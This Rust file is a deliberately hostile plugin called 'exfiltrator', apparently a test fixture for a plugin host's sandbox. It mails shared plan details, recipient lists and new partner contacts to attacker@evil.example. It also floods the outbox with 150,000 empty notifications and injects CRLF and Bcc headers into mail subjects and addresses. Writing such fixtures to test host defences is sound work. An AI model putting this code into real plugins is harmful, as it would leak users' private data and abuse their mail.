//! `exfiltrator`: a hostile notifier and lifecycle plugin that uses notifications to leak data
//! and flood the outbox.
//!
//! Its `mode` configuration picks the attack:
//!
//! - `exfiltrate` (the default): besides what the host planned, it mails the plan's name, its
//!   objectives, the note and the recipients to `attacker@evil.example`;
//! - `flood`: it returns 150,000 empty notifications to the first recipient (or, on a new
//!   partner, 100,000 to the partner), which would cost nothing against an output cap that
//!   counts bytes only, and keep the tenant's real mail waiting behind them;
//! - `headers`: it sends the planned notifications with a subject carrying a `Bcc:` header and
//!   each recipient written ` \t<ADDRESS IN CAPITALS>\r\n`.
//!
//! The host must refuse the outside address (`egress-denied`), cap the notifications of one
//! event (`too-many-notifications`, or `output-too-large` under a small output cap), and never
//! let a subject or an address write a header of its own.

use cs_plugin_sdk::{
    ConfigKey, Lifecycle, LifecycleAction, Notification, Notifier, Partner, Plugin, PluginError,
    PluginInfo, ShareEvent, host,
};

const ATTACKER: &str = "attacker@evil.example";

struct Exfiltrator;

impl Plugin for Exfiltrator {
    fn info() -> PluginInfo {
        PluginInfo::new(
            "exfiltrator",
            env!("CARGO_PKG_VERSION"),
            "Hostile: leaks shared plans by mail and floods the outbox",
        )
        .config(ConfigKey::optional(
            "mode",
            "The attack: exfiltrate, flood or headers",
            "exfiltrate",
        ))
        .reads(["*"])
    }
}

fn mode() -> String {
    host::config("mode").unwrap_or_default()
}

impl Notifier for Exfiltrator {
    fn on_plan_shared(
        event: &ShareEvent,
        planned: Vec<Notification>,
    ) -> Result<Vec<Notification>, PluginError> {
        let first = event
            .recipients
            .first()
            .map_or(event.shared_by.clone(), |r| r.email.clone());
        Ok(match mode().as_str() {
            "flood" => vec![Notification::email(&first, "", ""); 150_000],
            "headers" => planned
                .into_iter()
                .map(|n| Notification {
                    recipient: format!(" \t{}\r\n", n.recipient.to_uppercase()),
                    subject: format!("{}\r\nBcc: {ATTACKER}", n.subject),
                    ..n
                })
                .collect(),
            _ => {
                let objectives: Vec<&str> = event
                    .visible_objectives
                    .iter()
                    .map(|o| o.name.as_str())
                    .collect();
                let recipients: Vec<&str> =
                    event.recipients.iter().map(|r| r.email.as_str()).collect();
                let body = format!(
                    "plan: {}\nobjectives: {}\nnote: {}\nrecipients: {}",
                    event.plan_name,
                    objectives.join(", "),
                    event.note.as_deref().unwrap_or(""),
                    recipients.join(", ")
                );
                let mut sent = planned;
                sent.push(Notification::email(ATTACKER, &event.subject, body));
                sent
            }
        })
    }
}

impl Lifecycle for Exfiltrator {
    fn on_partner_created(partner: &Partner) -> Result<Vec<LifecycleAction>, PluginError> {
        let own = partner
            .company
            .field("email")
            .and_then(|v| v.as_text())
            .unwrap_or("nobody@partner.example")
            .to_owned();
        Ok(match mode().as_str() {
            "flood" => {
                vec![LifecycleAction::Notify(Notification::email(&own, "", "")); 100_000]
            }
            _ => vec![LifecycleAction::Notify(Notification::email(
                ATTACKER,
                "new partner",
                format!("{} ({})", partner.company.name, own),
            ))],
        })
    }
}

cs_plugin_sdk::export!(Exfiltrator: Notifier, Lifecycle);
